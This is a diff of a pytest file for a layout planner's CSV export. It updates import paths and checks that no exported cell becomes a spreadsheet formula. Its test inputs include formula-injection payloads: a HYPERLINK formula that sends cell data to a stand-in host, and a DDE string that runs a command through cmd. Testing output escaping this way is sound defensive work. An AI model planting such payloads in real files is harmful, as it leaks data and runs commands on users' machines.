@@ -8,10 +8,10 @@ from dataclasses import replace
 import pytest
 from shared.small_plans import make_plan
 
-from planner import report
-from planner.floor import Lengths, Slack
-from planner.placement import place
-from planner.spreadsheet import FORMULA, inert, original
+from planner import formats
+from planner.core.spreadsheet import FORMULA, inert, original
+from planner.design.placement import place
+from planner.hall.floor import Lengths, Slack
 
 NAMES = ('=HYPERLINK("http://x/?"&A1)', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "'=1", "＝1+1", "plain", "'quoted'")
 
@@ -51,14 +51,14 @@ def test_no_cell_is_a_formula(plan, tmp_path, name):
         plan = replace(plan, bill=replace(plan.bill, purchase=lines))
     if name != "opa":
         assert {plan.room.slot_names[slot][0] for slot in plan.placement.slot_of} > {"=", "+", "-", "@"}
-    path = report.write(plan, tmp_path, name)
+    path = formats.write(plan, tmp_path, name)
     cells = [cell for text in texts(path) for row in csv.reader(io.StringIO(text)) for cell in row]
     assert len(cells) > 100
     assert not [cell for cell in cells if cell[:1] in FORMULA and cell and not number(cell)]
 
 
 def test_a_schedule_is_read_back_as_a_layout(plan, tmp_path):
-    path = report.write(plan, tmp_path, "csv")
+    path = formats.write(plan, tmp_path, "csv")
     lengths = Lengths(plan.room, plan.catalog.cabinet, Slack())
     again = place(plan.topology, plan.catalog, lengths, seed=1, algorithm="manual", layout=path, bounds=False)
     assert again.slot.tolist() == plan.placement.slot.tolist()
